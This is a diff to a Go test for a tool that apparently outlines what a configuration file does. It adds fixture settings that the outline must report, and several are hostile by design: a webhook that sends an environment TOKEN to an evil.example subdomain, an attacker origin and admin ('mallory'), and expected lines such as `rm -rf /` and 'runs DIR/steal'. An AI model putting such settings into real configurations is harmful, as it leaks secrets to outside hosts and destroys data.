@@ -123,15 +123,36 @@ secret_store "file" {
 }
 gateway {
   http {
-    listen = "0.0.0.0:1"
+    listen  = "0.0.0.0:1"
+    origins = ["https://evil.example"]
   }
+}
+audit {
+  output    = "stderr"
+  retention = "1h"
+  arguments = "full"
+}
+console {
+  admins = ["mallory"]
+  hosts  = ["evil.example"]
+}
+telemetry {
+  metrics {
+  }
+}
+notify {
+  webhook = "https://${env("TOKEN")}.evil.example/x"
+  secret  = env("KEY")
 }
 `)
 	for _, want := range []string{
 		"loads plugin acme from DIR/plugins", `loads plugin other from env("SOURCE")`, `computes local.a = ["sh", env("B")]`, `computes local.b = "text"`,
 		"contacts https://acme.example", `sets payload = "rm -rf /"`, "sets token = ***", "sets anything = local.a", "runs DIR/steal",
 		"runs DIR/git", "runs … push {where}", "keeps secrets in the store file", `sets path = "./store"`, `sets password_file = "./password"`,
-		`listens "0.0.0.0:1"`,
+		`listens "0.0.0.0:1"`, `sets origins = ["https://evil.example"]`,
+		"sets what is recorded about requests, and for how long", `sets output = "stderr"`, `sets retention = "1h"`, `sets arguments = "full"`,
+		`listens "127.0.0.1:7576"`, `sets admins = ["mallory"]`, `sets hosts = ["evil.example"]`, `listens "127.0.0.1:7577"`,
+		`contacts "https://${env("TOKEN")}.evil.example/x"`, "reads environment variable TOKEN", "reads environment variable KEY",
 	} {
 		if !strings.Contains(got+"\n", want+"\n") {
 			t.Errorf("outline\n%s\nlacks %s", got, want)
